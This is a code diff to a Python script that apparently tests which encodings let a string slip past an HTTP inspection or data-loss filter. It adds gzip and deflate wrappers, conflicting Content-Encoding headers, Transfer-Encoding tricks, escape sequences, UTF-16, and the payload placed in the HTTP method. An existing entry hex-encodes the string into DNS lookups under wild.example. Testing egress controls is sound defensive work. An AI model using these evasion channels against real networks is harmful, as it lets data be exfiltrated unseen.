@@ -28,13 +28,22 @@ def ask(method="POST", path="/repo/x", body=None, headers=None, chunks=None):
             link.request(method, path, body=iter(chunks), headers=headers or {}, encode_chunked=True)
         else:
             link.request(method, path, body=body, headers=headers or {})
-        return link.getresponse().status == 200
+        return link.getresponse().status in (200, 501)
     except OSError:
         return False
     except http.client.HTTPException:
         return False
     finally:
         link.close()
+
+
+def two_encodings(body):
+    link = http.client.HTTPSConnection(HOST, timeout=9, context=context)
+    link.putrequest("POST", "/repo/x")
+    for name, value in (("Content-Length", str(len(body))), ("Content-Encoding", "identity"), ("Content-Encoding", "br")):
+        link.putheader(name, value)
+    link.endheaders(body)
+    return link.getresponse().status == 200
 
 
 def lookup(name):
@@ -61,6 +70,13 @@ def multipart(s):
 def b64(s, before=b"", alphabet=None):
     text = base64.b64encode(before + s.encode())
     return text.translate(bytes.maketrans(b"+/", b"-_")) if alphabet else text
+
+
+def named(s):
+    out = io.BytesIO()
+    with gzip.GzipFile(s, "wb", fileobj=out) as g:
+        g.write(b"x")
+    return out.getvalue()
 
 
 noise = os.urandom(40_000).hex().encode()
@@ -98,6 +114,19 @@ WAYS = {
     "gzip": lambda s: ask(body=gzip.compress(noise[:900] + s.encode()), headers={"Content-Encoding": "gzip"}),
     "gzip, large": lambda s: ask(body=gzip.compress(noise + s.encode()), headers={"Content-Encoding": "gzip"}),
     "deflate": lambda s: ask(body=zlib.compress(s.encode()), headers={"Content-Encoding": "deflate"}),
+    "gzip, told nobody, after a byte": lambda s: ask(chunks=[(z := gzip.compress(s.encode()))[:1], z[1:2], z[2:]]),
+    "gzip in a form": lambda s: ask(body=multipart("@").replace(b"@", gzip.compress(s.encode()))),
+    "behind gzip": lambda s: ask(body=gzip.compress(b"x") + s.encode()),
+    "what begins as gzip": lambda s: ask(body=b"\x1f\x8b\x08\x00 it is none " + s.encode()),
+    "the name in gzip": lambda s: ask(body=named(s), headers={"Content-Encoding": "gzip"}),
+    "deflate, told nobody": lambda s: ask(body=zlib.compress(s.encode())),
+    "two encodings in two headers": lambda s: two_encodings(s[::-1].encode()),
+    "a coding of the transfer": lambda s: ask(headers={"Transfer-Encoding": "deflate, chunked"}, chunks=[zlib.compress(s.encode())[2:-4]]),
+    "a method": lambda s: ask(method=s),
+    "escaped line breaks": lambda s: ask(body="%0d%0a".join(s)),
+    "escaped quotes in json": lambda s: ask(body="\\u0022\\u002c".join(s)),
+    "escapes of C": lambda s: ask(body="".join(f"\\x{ord(c):02x}" for c in s)),
+    "utf-16, the high byte first": lambda s: ask(body=s.encode("utf-16-be")),
     "a tar archive": lambda s: ask(body=tar(s)),
     "another encoding": lambda s: ask(body=s.encode()[::-1], headers={"Content-Encoding": "zstd"}),
     "a name": lambda s: lookup(f"{s.encode().hex()[:60]}.{s.encode().hex()[60:] or 'x'}.wild.example"),
